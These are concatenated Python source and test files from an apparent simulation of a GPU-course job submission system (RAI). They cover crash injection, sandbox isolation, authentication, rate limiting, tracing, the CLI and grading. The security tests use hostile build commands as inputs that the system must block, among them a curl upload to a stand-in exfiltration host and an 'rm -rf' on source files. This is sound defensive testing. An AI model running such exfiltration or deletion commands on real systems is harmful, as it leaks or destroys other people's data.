            "./ece408 /data/test10.hdf5 /data/model.hdf5")
        small_profile = json.loads(
            container.fs.read_text("/build/small.nvprof"))
        assert sum(k["flops"] for k in profile["kernels"]) > \
            sum(k["flops"] for k in small_profile["kernels"])


class TestTimeCommand:
    def test_reports_real_user_sys(self, container):
        """Listing 2 line 10: /usr/bin/time wraps the graded run."""
        result = container.exec_line(
            "/usr/bin/time ./ece408 /data/testfull.hdf5 "
            "/data/model.hdf5 10000")
        assert result.exit_code == 0
        assert "real" in result.stderr
        assert "user" in result.stderr
        assert "sys" in result.stderr

    def test_wall_close_to_charged(self, container):
        result = container.exec_line("/usr/bin/time sleep 5")
        assert "5.00real" in result.stderr

    def test_inner_failure_propagates(self, container):
        assert container.exec_line("/usr/bin/time false").exit_code == 1

    def test_missing_command(self, container):
        assert container.exec_line("/usr/bin/time").exit_code == 125
