"""Crash points: deterministic mid-write power loss for the WAL.

A :class:`CrashPoint` installs as a
:class:`~repro.durability.wal.WriteAheadLog` ``fault_hook``.  It lets a
configurable number of appends through, then cuts the next record at a
byte offset and "kills the process" (:class:`~repro.errors.SimulatedCrash`).
The torn prefix really reaches the file, so recovery sees exactly what a
power cut would leave: an intact history and one damaged final line.
"""

from __future__ import annotations

import os
from typing import Optional


class CrashPoint:
    """Tear the Nth WAL append after installation.

    Parameters
    ----------
    after_records:
        Appends allowed through before the crash fires (0 = the very
        next append dies).
    tear_bytes:
        How much of the fatal record reaches disk.  ``None`` means half
        the record; 0 models a crash between the application of a
        mutation and its journal append (the record is lost whole).
    """

    def __init__(self, after_records: int = 0,
                 tear_bytes: Optional[int] = None):
        self.after_records = int(after_records)
        self.tear_bytes = tear_bytes
        self.records_seen = 0
        self.fired = False

    def __call__(self, record_bytes: bytes) -> Optional[bytes]:
        if self.fired:
            return None
        if self.records_seen < self.after_records:
            self.records_seen += 1
            return None
        self.fired = True
        if self.tear_bytes is None:
            return record_bytes[:max(1, len(record_bytes) // 2)]
        return record_bytes[:max(0, int(self.tear_bytes))]


def tear_tail(path: str, nbytes: int) -> int:
    """Truncate ``nbytes`` off the end of a file (post-hoc torn write).

    Returns the resulting size.  Complements :class:`CrashPoint` for
    tests that want to damage a WAL that was written without a hook.
    """
    size = os.path.getsize(path)
    target = max(0, size - int(nbytes))
    with open(path, "rb+") as fh:
        fh.truncate(target)
    return target
