"""WebGPU (Table I row 3): the course's weekly-lab platform.

"These online development environments hide the system configuration
options and disallow more advanced profiling and debugging tools to keep
the focus on the educational objectives of each lab" (§III) — secure,
scalable, accessible, uniform, but not configurable.
"""

from __future__ import annotations

from repro.baselines.base import BaselineJob, SubmissionOutcome, SubmissionSystem

#: What the lab environment lets students run: their kernel is compiled and
#: invoked by a fixed harness; no shell, no profilers.
_ALLOWED_VERBS = ("compile", "run-dataset")

#: Tools the web UI hides (§III).
_BLOCKED_TOOLS = ("nvprof", "cuda-gdb", "cmake", "make", "nvvp", "gdb")


class WebGPUSystem(SubmissionSystem):
    name = "WebGPU"
    remote_accessible_without_hardware = True

    def __init__(self, backend_capacity: int = 16):
        self._capacity = backend_capacity

    def submit(self, job: BaselineJob) -> SubmissionOutcome:
        # The student's commands are ignored; the harness runs a fixed
        # compile-and-test procedure.
        requested_blocked = any(
            any(tool in command for tool in _BLOCKED_TOOLS)
            for command in job.commands)
        custom_image = job.image is not None and job.image != "webgpu/lab"
        return SubmissionOutcome(
            accepted=True,
            ran_requested_commands=not (requested_blocked or job.commands
                                        and not _is_fixed_harness(job)),
            used_requested_image=not custom_image,
            escaped_sandbox=False,
            enforced_grading_procedure=True,   # same harness grades everyone
            had_gpu=True,
        )

    def add_capacity(self, units: int) -> int:
        self._capacity += units   # cloud-backed, like RAI
        return units

    def capacity(self) -> int:
        return self._capacity


def _is_fixed_harness(job: BaselineJob) -> bool:
    return all(any(command.startswith(verb) for verb in _ALLOWED_VERBS)
               for command in job.commands)
