"""Security-focused integration tests: the §II isolation story, attacked."""

import pytest

from repro.core.job import JobKind, JobStatus
from repro.core.system import RaiSystem

BASE = {
    "main.cu": "// @rai-sim quality=0.5 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


def spec_with(commands):
    body = "\n".join(f"    - {c}" for c in commands)
    return ("rai:\n  version: 0.1\n  image: webgpu/rai:root\n"
            f"commands:\n  build:\n{body}\n")


@pytest.fixture
def system():
    return RaiSystem.standard(num_workers=1, seed=77)


class TestCrossJobIsolation:
    def test_jobs_cannot_see_previous_jobs_files(self, system):
        """Fresh container per job: nothing persists between jobs."""
        alice = system.new_client(team="alice-team")
        alice.stage_project(dict(BASE))
        alice.set_build_file(spec_with([
            "echo alices-secret-result > /build/secret.txt",
            "cat /build/secret.txt",
        ]))
        first = system.run(alice.submit())
        assert "alices-secret-result" in first.stdout_text()

        mallory = system.new_client(team="mallory-team")
        mallory.stage_project(dict(BASE))
        mallory.set_build_file(spec_with([
            "cat /build/secret.txt",
            "ls /build",
        ]))
        probe = system.run(mallory.submit())
        assert "alices-secret-result" not in probe.stdout_text()
        assert "No such file" in probe.stderr_text()

    def test_project_mount_is_read_only(self, system):
        client = system.new_client(team="t")
        client.stage_project(dict(BASE))
        client.set_build_file(spec_with([
            "rm -rf /src/main.cu ; cat /src/main.cu",
        ]))
        result = system.run(client.submit())
        assert "@rai-sim" in result.stdout_text()   # file survived

    def test_no_network_for_exfiltration(self, system):
        client = system.new_client(team="t")
        client.stage_project(dict(BASE))
        client.set_build_file(spec_with([
            "curl http://collusion.example.com/upload",
        ]))
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
        assert "network" in result.stderr_text().lower()


class TestAuthorisationBoundaries:
    def test_unregistered_user_cannot_submit(self, system):
        from repro.auth.profile import RaiProfile
        from repro.core.client import RaiClient

        intruder = RaiClient(system, RaiProfile("ghost", "AAAA", "BBBB"),
                             team="ghost-team")
        intruder.stage_project(dict(BASE))
        result = system.run(intruder.submit())
        assert result.status is JobStatus.REJECTED

    def test_revoked_student_locked_out(self, system):
        client = system.new_client(team="t", username="expelled")
        client.stage_project(dict(BASE))
        system.keystore.revoke("expelled")
        result = system.run(client.submit())
        assert result.status is JobStatus.REJECTED

    def test_stolen_access_key_without_secret_useless(self, system):
        victim = system.new_client(team="victim")
        from repro.auth.profile import RaiProfile
        from repro.core.client import RaiClient

        thief = RaiClient(
            system,
            RaiProfile("thief", victim.profile.access_key, "guessed"),
            team="thief-team")
        thief.stage_project(dict(BASE))
        result = system.run(thief.submit())
        assert result.status is JobStatus.REJECTED


class TestDoSResistance:
    def test_rate_limit_bounds_throughput_per_team(self, system):
        """§V: 'each student can only submit a job every 30 seconds'."""
        client = system.new_client(team="flooder")
        client.stage_project(dict(BASE))

        def flood(sim):
            accepted = 0
            for _ in range(10):
                result = yield from client.submit()
                if result.status is not JobStatus.REJECTED:
                    accepted += 1
            return accepted

        start = system.sim.now
        accepted = system.run(flood(system.sim))
        elapsed = system.sim.now - start
        # Can never beat one accepted submission per 30 s.
        assert accepted <= elapsed / 30.0 + 1

    def test_lifetime_cap_reclaims_stuck_jobs(self, system):
        client = system.new_client(team="hanger")
        client.stage_project({
            "main.cu": "// @rai-sim runtime=hang\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        })
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
        # the worker survived and takes the next job
        other = system.new_client(team="patient")
        other.stage_project(dict(BASE))
        follow_up = system.run(other.submit())
        assert follow_up.status is JobStatus.SUCCEEDED

    def test_log_flood_capped(self, system):
        client = system.new_client(team="chatty")
        client.stage_project(dict(BASE))
        client.set_build_file(spec_with(
            ["echo " + "x" * 900] * 30))
        # tighten the cap for the test
        for worker in system.workers:
            from repro.container.limits import ResourceLimits

            worker.config.limits = ResourceLimits(max_output_bytes=4096)
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
