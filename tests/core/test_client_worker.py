"""Client↔worker protocol tests over a full in-sim deployment."""

import pytest

from repro.buildspec import FINAL_SUBMISSION_YAML
from repro.core.job import JobKind, JobStatus
from repro.core.system import RaiSystem
from repro.errors import RateLimited, SubmissionRejected

GOOD_FILES = {
    "main.cu": "// @rai-sim quality=0.85 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}
FINAL_FILES = dict(GOOD_FILES, USAGE="run make", **{
    "report.pdf": b"%PDF-1.4 final report"})


class TestDevelopmentRun:
    def test_happy_path(self, system, client):
        result = system.run(client.submit())
        assert result.status is JobStatus.SUCCEEDED
        assert result.exit_code == 0
        assert "Building project" in result.stdout_text()
        assert result.internal_time is not None
        assert result.correctness == 1.0
        assert result.worker_id is not None

    def test_default_build_file_used_when_absent(self, system, client):
        result = system.run(client.submit())
        # Listing 1's nvprof step ran and produced the timeline artifact.
        blob = client.download_build(result)
        from repro.vfs import archive_member_names

        assert "timeline.nvprof" in archive_member_names(blob)

    def test_custom_build_file_respected(self, system, client):
        client.set_build_file("""\
rai:
  version: 0.1
  image: webgpu/rai:root
commands:
  build:
    - echo custom-step-ran
""")
        result = system.run(client.submit())
        assert "custom-step-ran" in result.stdout_text()

    def test_empty_project_rejected(self, system):
        client = system.new_client(team="t")
        result = system.run(client.submit())
        assert result.status is JobStatus.REJECTED

    def test_build_archive_roundtrip(self, system, client):
        result = system.run(client.submit())
        blob = client.download_build(result)
        from repro.vfs import VirtualFileSystem, unpack_tree

        fs = VirtualFileSystem()
        unpack_tree(blob, fs, "/")
        assert fs.isfile("/ece408")

    def test_submission_recorded_in_database(self, system, client):
        result = system.run(client.submit())
        doc = system.db.collection("submissions").find_one(
            {"job_id": result.job_id})
        assert doc["status"] == "succeeded"
        assert doc["team"] == "test-team"
        assert doc["internal_time"] == pytest.approx(result.internal_time)

    def test_log_timestamps_monotonic(self, system, client):
        result = system.run(client.submit())
        times = [t for t, _, _ in result.log]
        assert times == sorted(times)

    def test_on_line_callback_streams(self, system):
        lines = []
        client = system.new_client(
            team="t", on_line=lambda stream, text: lines.append(text))
        client.stage_project(GOOD_FILES)
        system.run(client.submit())
        assert any("Building project" in text for text in lines)


class TestFailureModes:
    def test_compile_error_fails_job(self, system, client):
        client.stage_project(
            {"main.cu": "// @rai-sim compile=error\n",
             "CMakeLists.txt": "add_executable(ece408 main.cu)\n"},
            clear=True)
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
        assert "error:" in result.stderr_text()

    def test_crash_fails_job(self, system, client):
        client.stage_project(
            {"main.cu": "// @rai-sim runtime=crash\n",
             "CMakeLists.txt": "x\n"}, clear=True)
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
        assert result.exit_code == 139

    def test_commands_after_failure_not_run(self, system, client):
        client.set_build_file("""\
rai:
  version: 0.1
  image: webgpu/rai:root
commands:
  build:
    - false
    - echo after-failure
""")
        result = system.run(client.submit())
        assert result.status is JobStatus.FAILED
        assert "after-failure" not in result.stdout_text()

    def test_bad_credentials_rejected_client_side(self, system, client):
        client.profile = type(client.profile)(
            username=client.username, access_key="forged",
            secret_key="forged")
        result = system.run(client.submit())
        assert result.status is JobStatus.REJECTED

    def test_tampered_signature_rejected_by_worker(self, system, client):
        """Bypass the client checks; the worker must still verify."""
        from repro.core.job import Job, JobKind

        cred = system.keystore.lookup(client.profile.access_key)
        from repro.vfs import pack_tree

        blob = pack_tree(client.project_fs, "/")
        system.storage.put_object(system.config.upload_bucket,
                                  "u/forged.tar.bz2", blob)
        job = Job(id="job-forged", kind=JobKind.RUN,
                  username=client.username, team="t",
                  upload_bucket=system.config.upload_bucket,
                  upload_key="u/forged.tar.bz2",
                  spec_yaml=FINAL_SUBMISSION_YAML,
                  access_key=cred.access_key,
                  signature="not-a-valid-signature",
                  submitted_at=system.sim.now)

        from repro.broker.client import Consumer

        consumer = Consumer(system.broker, "log_job-forged/#ch")
        system.broker.publish("rai", job.to_message())

        def wait_end(sim):
            while True:
                msg = yield consumer.get()
                consumer.ack(msg)
                if msg.body["type"] == "end":
                    return msg.body["status"]

        status = system.run(wait_end(system.sim))
        assert status == "rejected"

    def test_unwhitelisted_image_rejected(self, system, client):
        client.set_build_file("""\
rai:
  version: 0.1
  image: sketchy/custom:latest
commands:
  build: [echo hi]
""")
        result = system.run(client.submit())
        assert result.status is JobStatus.REJECTED
        assert "whitelist" in result.stderr_text()

    def test_rate_limit_rejects_fast_resubmit(self, system, client):
        first = system.run(client.submit())
        assert first.status is JobStatus.SUCCEEDED
        # Force an immediate retry (first run took > 30 simulated seconds
        # of turnaround, so rewind the limiter instead of the clock).
        system.rate_limiter._last_accepted[client.team] = system.sim.now
        second = system.run(client.submit())
        assert second.status is JobStatus.REJECTED
        assert "rate limited" in second.error

    def test_rate_limit_raises_when_asked(self, system, client):
        system.run(client.submit())
        system.rate_limiter._last_accepted[client.team] = system.sim.now

        def proc(sim):
            yield from client.submit(raise_on_reject=True)

        with pytest.raises(RateLimited):
            system.run(proc(system.sim))


class TestFinalSubmission:
    def test_requires_usage_and_report(self, system, client):
        result = system.run(client.submit(JobKind.SUBMIT))
        assert result.status is JobStatus.REJECTED
        assert "USAGE" in result.error

    def test_final_flow_records_ranking(self, system):
        client = system.new_client(team="finals-team")
        client.stage_project(FINAL_FILES)
        result = system.run(client.submit(JobKind.SUBMIT))
        assert result.status is JobStatus.SUCCEEDED
        assert result.rank == 1
        row = system.ranking.leaderboard()[0]
        assert row["team"] == "finals-team"
        assert row["internal_time"] == pytest.approx(result.internal_time)
        # instructor (time-command) figure recorded separately
        assert row["instructor_time"] >= row["internal_time"] * 0.9

    def test_students_build_file_ignored_for_finals(self, system):
        """§V: 'the student's local rai-build.yaml file is ignored'."""
        client = system.new_client(team="sneaky")
        client.stage_project(FINAL_FILES)
        client.set_build_file("""\
rai:
  version: 0.1
  image: webgpu/rai:root
commands:
  build: [echo skipping-the-benchmark]
""")
        result = system.run(client.submit(JobKind.SUBMIT))
        assert "skipping-the-benchmark" not in result.stdout_text()
        assert "Submitting project" in result.stdout_text()
        blob = client.download_build(result)
        from repro.vfs import archive_member_names

        names = archive_member_names(blob)
        assert any(n.startswith("submission_code") for n in names)

    def test_final_uses_full_dataset(self, system):
        client = system.new_client(team="t")
        client.stage_project(FINAL_FILES)
        result = system.run(client.submit(JobKind.SUBMIT))
        assert "10000 images" in result.stdout_text()


class TestConcurrency:
    def test_two_workers_share_queue(self):
        system = RaiSystem.standard(num_workers=2, seed=3)
        clients = []
        for i in range(4):
            c = system.new_client(team=f"team-{i}")
            c.stage_project(GOOD_FILES)
            clients.append(c)
        results = system.run_all([c.submit() for c in clients])
        assert all(r.status is JobStatus.SUCCEEDED for r in results)
        workers_used = {r.worker_id for r in results}
        assert len(workers_used) == 2

    def test_queue_drains_with_single_worker(self):
        system = RaiSystem.standard(num_workers=1, seed=3)
        clients = []
        for i in range(3):
            c = system.new_client(team=f"team-{i}")
            c.stage_project(GOOD_FILES)
            clients.append(c)
        results = system.run_all([c.submit() for c in clients])
        assert all(r.succeeded for r in results)
        # With one worker, later jobs wait longer.
        waits = sorted(r.queue_wait for r in results)
        assert waits[-1] > waits[0]
