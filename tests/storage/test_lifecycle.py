"""Unit tests for lifecycle expiry (§V: delete one month after last use)."""

import pytest

from repro.storage import LifecycleRule, ObjectStore
from repro.storage.lifecycle import MONTH_SECONDS


@pytest.fixture
def store(sim):
    s = ObjectStore(sim)
    s.create_bucket("uploads")
    return s


class TestRuleValidation:
    def test_bad_since_rejected(self):
        with pytest.raises(ValueError):
            LifecycleRule(since="never")

    def test_nonpositive_lifetime_rejected(self):
        with pytest.raises(ValueError):
            LifecycleRule(expire_after=0)

    def test_prefix_matching(self):
        rule = LifecycleRule(prefix="team1/")
        assert rule.matches("team1/x")
        assert not rule.matches("team2/x")


class TestExpiry:
    def test_expires_after_creation_age(self, sim, store):
        store.bucket("uploads").add_lifecycle_rule(
            LifecycleRule(expire_after=100.0, since="creation"))
        store.put_object("uploads", "old", b"x")
        sim._now = 150.0
        assert store.run_lifecycle_sweep() == ["uploads/old"]
        assert not store.object_exists("uploads", "old")

    def test_last_use_resets_clock(self, sim, store):
        """The paper's rule: deleted one month after the LAST USE."""
        store.bucket("uploads").add_lifecycle_rule(
            LifecycleRule(expire_after=100.0, since="last_use"))
        store.put_object("uploads", "k", b"x")
        sim._now = 90.0
        store.get_object("uploads", "k")   # touch
        sim._now = 150.0                   # 60s since touch, 150 since put
        assert store.run_lifecycle_sweep() == []
        sim._now = 191.0
        assert store.run_lifecycle_sweep() == ["uploads/k"]

    def test_unmatched_prefix_untouched(self, sim, store):
        store.bucket("uploads").add_lifecycle_rule(
            LifecycleRule(prefix="tmp/", expire_after=1.0))
        store.put_object("uploads", "keep/me", b"x")
        sim._now = 1e9
        assert store.run_lifecycle_sweep() == []

    def test_month_constant_matches_paper(self):
        assert MONTH_SECONDS == 30 * 24 * 3600

    def test_sweeper_process(self, sim, store):
        store.bucket("uploads").add_lifecycle_rule(
            LifecycleRule(expire_after=10.0, since="creation"))
        store.put_object("uploads", "k", b"x")
        sim.process(store.lifecycle_sweeper(interval=5.0))
        sim.run(until=16.0)
        assert not store.object_exists("uploads", "k")
