"""In-memory trace storage: ring-buffered, queryable by job id.

A course deployment traces every submission; an operator debugging one
job needs *that* job's spans long after thousands of later submissions
have pushed it toward eviction.  The store therefore:

- keeps at most ``max_traces`` traces, evicting oldest-first, but
- never evicts a *live* trace (one with open spans): eviction skips it,
  so a crash-recovery trace that stays open across redelivery cannot be
  orphaned mid-flight by a resubmission storm (the chaos suite asserts
  this), and
- maintains a ``job_id → trace_id`` index fed by span attributes, the
  query key ``rai trace <job_id>`` uses.
"""

from __future__ import annotations

from collections import OrderedDict
from typing import Dict, Iterator, List, Optional

from repro.obs.span import Span


class Trace:
    """All spans sharing one trace_id, in creation order."""

    __slots__ = ("trace_id", "spans", "job_ids", "_open")

    def __init__(self, trace_id: str):
        self.trace_id = trace_id
        self.spans: List[Span] = []
        self.job_ids: List[str] = []
        self._open = 0

    @property
    def open_spans(self) -> int:
        return self._open

    @property
    def is_live(self) -> bool:
        return self._open > 0

    def root(self) -> Optional[Span]:
        for span in self.spans:
            if span.parent_id is None:
                return span
        return self.spans[0] if self.spans else None

    def find(self, name: str) -> List[Span]:
        return [s for s in self.spans if s.name == name]

    def span(self, span_id: str) -> Optional[Span]:
        for s in self.spans:
            if s.span_id == span_id:
                return s
        return None

    def children_of(self, span: Span) -> List[Span]:
        return [s for s in self.spans if s.parent_id == span.span_id]

    def start_time(self) -> float:
        return min((s.start_time for s in self.spans), default=0.0)

    def end_time(self) -> float:
        return max((s.end_time for s in self.spans
                    if s.end_time is not None), default=self.start_time())

    def __len__(self) -> int:
        return len(self.spans)

    def __repr__(self):
        return (f"<Trace {self.trace_id} spans={len(self.spans)} "
                f"open={self._open} jobs={self.job_ids}>")


class TraceStore:
    """Ring buffer of traces with a job-id index."""

    def __init__(self, max_traces: int = 512):
        if max_traces < 1:
            raise ValueError("max_traces must be >= 1")
        self.max_traces = max_traces
        self._traces: "OrderedDict[str, Trace]" = OrderedDict()
        self._job_index: Dict[str, str] = {}
        self.total_spans = 0
        self.total_evicted = 0

    # -- ingest ------------------------------------------------------------

    def add_span(self, span: Span) -> None:
        trace = self._traces.get(span.trace_id)
        is_new = trace is None
        if is_new:
            trace = self._traces[span.trace_id] = Trace(span.trace_id)
        trace.spans.append(span)
        trace._open += 1
        self.total_spans += 1
        if is_new:
            # Evict only after the span lands: the new trace now counts
            # as live, so it can never select itself as the victim.
            self._evict_over_capacity()

    def note_end(self, span: Span) -> None:
        """Called (once, via ``Span.end``) when a stored span closes."""
        trace = self._traces.get(span.trace_id)
        if trace is not None:
            trace._open = max(0, trace._open - 1)

    def bind_job(self, job_id, trace_id: str) -> None:
        if job_id is None:
            return
        self._job_index[str(job_id)] = trace_id
        trace = self._traces.get(trace_id)
        if trace is not None and job_id not in trace.job_ids:
            trace.job_ids.append(str(job_id))

    def _evict_over_capacity(self) -> None:
        while len(self._traces) > self.max_traces:
            victim_id = None
            for trace_id, trace in self._traces.items():
                if not trace.is_live:
                    victim_id = trace_id
                    break
            if victim_id is None:
                # Every stored trace still has open spans; growing past
                # capacity is the lesser evil vs. orphaning live jobs.
                return
            victim = self._traces.pop(victim_id)
            for job_id in victim.job_ids:
                if self._job_index.get(job_id) == victim_id:
                    del self._job_index[job_id]
            self.total_evicted += 1

    # -- query ------------------------------------------------------------

    def trace(self, trace_id: str) -> Optional[Trace]:
        return self._traces.get(trace_id)

    def trace_for_job(self, job_id) -> Optional[Trace]:
        trace_id = self._job_index.get(str(job_id))
        return self._traces.get(trace_id) if trace_id is not None else None

    def spans_for_job(self, job_id) -> List[Span]:
        trace = self.trace_for_job(job_id)
        return list(trace.spans) if trace is not None else []

    def traces(self) -> Iterator[Trace]:
        return iter(self._traces.values())

    def job_ids(self) -> List[str]:
        return list(self._job_index)

    def __len__(self) -> int:
        return len(self._traces)

    def stats(self) -> dict:
        return {
            "traces": len(self._traces),
            "live_traces": sum(1 for t in self._traces.values() if t.is_live),
            "spans_stored": sum(len(t) for t in self._traces.values()),
            "spans_total": self.total_spans,
            "evicted": self.total_evicted,
            "max_traces": self.max_traces,
        }
