"""Trace identity and its wire representation.

A :class:`TraceContext` is the minimal triple that lets spans created on
different "machines" (client process, broker, worker executor) assemble
into one tree: the trace they belong to, the span that emitted it, and
that span's parent.  It crosses machine boundaries as a small dict of
broker message *headers* — metadata beside the body, never inside it, so
signed job payloads are untouched (kiwiPy's message-metadata channel).

Ids are process-unique and deterministic (``trace-000001`` /
``span-000001``), like message and job ids: the simulator's total event
order is the only source of interleaving, so two runs with the same seed
produce byte-identical traces.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass
from typing import Mapping, Optional

_trace_counter = itertools.count(1)
_span_counter = itertools.count(1)

#: Header keys used on broker messages.
TRACE_ID_HEADER = "trace_id"
SPAN_ID_HEADER = "span_id"


def new_trace_id() -> str:
    return f"trace-{next(_trace_counter):06d}"


def new_span_id() -> str:
    return f"span-{next(_span_counter):06d}"


def reset_obs_ids() -> None:
    """Restart both id sequences (test isolation helper)."""
    global _trace_counter, _span_counter
    _trace_counter = itertools.count(1)
    _span_counter = itertools.count(1)


@dataclass(frozen=True, slots=True)
class TraceContext:
    """Immutable (trace_id, span_id, parent_id) triple."""

    trace_id: str
    span_id: str
    parent_id: Optional[str] = None

    def to_headers(self) -> dict:
        """The dict carried in broker ``Message.headers``."""
        return {TRACE_ID_HEADER: self.trace_id, SPAN_ID_HEADER: self.span_id}

    @staticmethod
    def from_headers(headers: Optional[Mapping]) -> Optional["TraceContext"]:
        """Recover a context from message headers (None if absent)."""
        if not headers:
            return None
        trace_id = headers.get(TRACE_ID_HEADER)
        span_id = headers.get(SPAN_ID_HEADER)
        if trace_id is None or span_id is None:
            return None
        return TraceContext(trace_id=trace_id, span_id=span_id)
