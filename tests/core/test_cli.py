"""Unit tests for the rai CLI front end."""

import pytest

from repro.core.cli import RaiCLI
from repro.core.job import JobKind

FILES = {
    "main.cu": "// @rai-sim quality=0.9 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
    "USAGE": "usage",
    "report.pdf": b"%PDF-1.4",
}


@pytest.fixture
def cli(system):
    client = system.new_client(team="cli-team")
    client.stage_project(FILES)
    return RaiCLI(system, client)


class TestSubcommands:
    def test_run(self, cli):
        out = cli.run_command("rai run")
        assert "succeeded" in out
        assert "Building project" in out

    def test_submit_shows_rank(self, cli, system):
        out = cli.run_command("rai submit")
        assert "succeeded" in out
        assert "ranked #1" in out

    def test_ranking_empty(self, cli):
        assert "No submissions" in cli.run_command("rai ranking")

    def test_ranking_table(self, cli, system):
        cli.run_command("rai submit")
        out = cli.run_command("rai ranking")
        assert "← you" in out
        assert "cli-team" in out

    def test_history(self, cli):
        assert "No jobs" in cli.run_command("rai history")
        cli.run_command("rai run")
        out = cli.run_command("rai history")
        assert "job-" in out and "succeeded" in out

    def test_version_shows_embedded_build_info(self, cli):
        out = cli.run_command("rai version")
        assert "rai version" in out
        assert "built" in out

    def test_help_and_unknown(self, cli):
        assert "usage:" in cli.run_command("rai help")
        assert "unknown subcommand" in cli.run_command("rai frobnicate")
        assert "usage:" in cli.run_command("rai")

    def test_leading_rai_optional(self, cli):
        assert "usage:" in cli.run_command("help")

    def test_download_without_jobs(self, cli):
        assert "No completed jobs" in cli.run_command("rai download")

    def test_download_extracts_build(self, cli):
        cli.run_command("rai run")
        out = cli.run_command("rai download")
        assert "extracted" in out
        job_id = cli.client.history[-1].job_id
        assert cli.client.project_fs.isfile(
            f"/build-{job_id}/timeline.nvprof")

    def test_download_bad_index(self, cli):
        cli.run_command("rai run")
        assert "no such job" in cli.run_command("rai download 99")

    def test_stats_report(self, cli):
        cli.run_command("rai run")
        out = cli.run_command("rai stats")
        assert "deployment health" in out
        assert "jobs completed" in out

    def test_top_idle_fleet(self, cli, system):
        out = cli.run_command("rai top")
        assert "queue=0" in out
        assert "sched wait: p50=-" in out   # no dispatches yet
        assert "warm-pool hit rate" in out
        for worker in system.workers:
            assert worker.id in out
        assert "up" in out

    def test_top_after_jobs(self, cli, system):
        cli.run_command("rai run")
        out = cli.run_command("rai top")
        # Dispatch histogram populated; percentiles render as numbers.
        assert "dispatched=1" in out
        assert "p50=-" not in out
        # Pool columns show the cold create and the parked container.
        assert "0/1" in out and "pooled" in out

    def test_top_shows_downed_worker(self, cli, system):
        system.workers[0].crash()
        out = cli.run_command("rai top")
        assert "down" in out

    def test_top_listed_in_help(self, cli):
        assert "top" in cli.run_command("rai help")


@pytest.mark.slo
class TestObservabilityCommands:
    """rai slo / rai alerts / rai events close the metric→trace loop."""

    def _burned_system(self):
        """One worker, six queued jobs: most waits blow the 30s bound."""
        from repro.core.system import RaiSystem

        system = RaiSystem.standard(num_workers=1, seed=13)
        system.scraper.scrape_now()  # empty baseline at t=0
        procs = []
        for i in range(6):
            c = system.new_client(team=f"team-{i}")
            c.stage_project(FILES)
            procs.append(system.sim.process(c.submit()))
        for proc in procs:
            system.run(proc)
        return system

    def _obs_cli(self, system):
        from repro.core.cli import RaiCLI

        return RaiCLI(system, system.new_client(team="operator"))

    def test_slo_reports_burn_with_exemplar_traces(self):
        import re

        system = self._burned_system()
        cli = self._obs_cli(system)
        out = cli.run_command("rai slo")
        assert "queue-wait-p95" in out
        assert "burning" in out
        assert "submission-success" in out    # healthy objective shown too
        matches = re.findall(r"— trace (\S+) \(job (\S+)\)", out)
        assert matches, f"no exemplar lines in:\n{out}"
        # Every printed trace id resolves to a waterfall via rai trace.
        for trace_id, job_id in matches:
            report = cli.run_command(f"rai trace {trace_id}")
            assert "no trace recorded" not in report
            assert job_id in report

    def test_slo_with_no_specs(self, system):
        system.slo_engine.specs = []
        assert "No SLOs configured" in \
            self._obs_cli(system).run_command("rai slo")

    def test_alerts_quiet_deployment(self, cli):
        cli.run_command("rai run")
        assert "No alerts have fired" in cli.run_command("rai alerts")

    def test_alerts_lists_firing_then_resolved(self):
        system = self._burned_system()
        cli = self._obs_cli(system)
        out = cli.run_command("rai alerts")
        assert "slo:queue-wait-p95" in out
        assert "firing" in out
        assert "critical" in out
        # Resolve it by hand; the incident stays in the report, resolved.
        system.alerts.resolve("slo:queue-wait-p95")
        system.slo_engine.specs = []          # nothing re-fires on check
        out = cli.run_command("rai alerts")
        assert "resolved" in out

    def test_events_tail_and_job_query(self, cli):
        cli.run_command("rai run")
        out = cli.run_command("rai events")
        assert "job.state_change" in out
        assert "emitted" in out
        job_id = cli.client.history[-1].job_id
        per_job = cli.run_command(f"rai events {job_id}")
        assert "status=succeeded" in per_job
        assert "[trace " in per_job
        by_type = cli.run_command("rai events pool.")
        assert "pool." in by_type
        assert "No matching events" in cli.run_command("rai events nope.")

    def test_new_subcommands_listed_in_help(self, cli):
        out = cli.run_command("rai help")
        for sub in ("slo", "alerts", "events", "cache"):
            assert sub in out

    def test_cache_idle_deployment(self, cli):
        out = cli.run_command("rai cache")
        assert "build cache: 0 entries" in out
        assert "chunk fetch caches" in out
        assert "worker-0001" in out

    def test_cache_after_cached_resubmission(self, cli, system):
        cli.run_command("rai run")
        gap = system.config.rate_limit_seconds + 1.0
        system.run(until=system.sim.now + gap)
        cli.run_command("rai run")
        out = cli.run_command("rai cache")
        assert "hit rate" in out
        assert "hottest build-cache entries" in out
        assert "make" in out
        # The resubmission's two build commands hit.
        assert "2 hits" in out

    def test_cache_disabled_deployment(self):
        from repro.core.cli import RaiCLI
        from repro.core.config import SystemConfig
        from repro.core.system import RaiSystem

        config = SystemConfig()
        config.buildcache_enabled = False
        system = RaiSystem.standard(num_workers=1, seed=52, config=config)
        client = system.new_client(team="t")
        out = RaiCLI(system, client).run_command("rai cache")
        assert "disabled" in out
