"""Re-running submissions for grading (§VI/§VII).

"The tool can also be instructed to rerun the students' submissions
multiple times and display the minimum time.  This was done to get a more
accurate measurement of the student execution times during project
evaluation."  Each re-run executes the enforced Listing 2 procedure in a
fresh container on an instructor-controlled device — the same sandbox the
original submission used.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List, Optional

import numpy as np

from repro.buildspec.defaults import final_submission_spec
from repro.container.runtime import ContainerRuntime
from repro.container.volumes import VolumeMount, cuda_volume
from repro.core.job import _CORRECTNESS_RE, _ELAPSED_RE
from repro.gpu.device import get_device
from repro.grading.download import DownloadedSubmission
from repro.vfs import VirtualFileSystem


@dataclass
class EvaluationRun:
    """One graded re-execution."""

    elapsed: Optional[float]
    correctness: Optional[float]
    exit_code: int
    stdout: str = ""


@dataclass
class EvaluationResult:
    team: str
    runs: List[EvaluationRun] = field(default_factory=list)

    @property
    def best_time(self) -> Optional[float]:
        times = [r.elapsed for r in self.runs
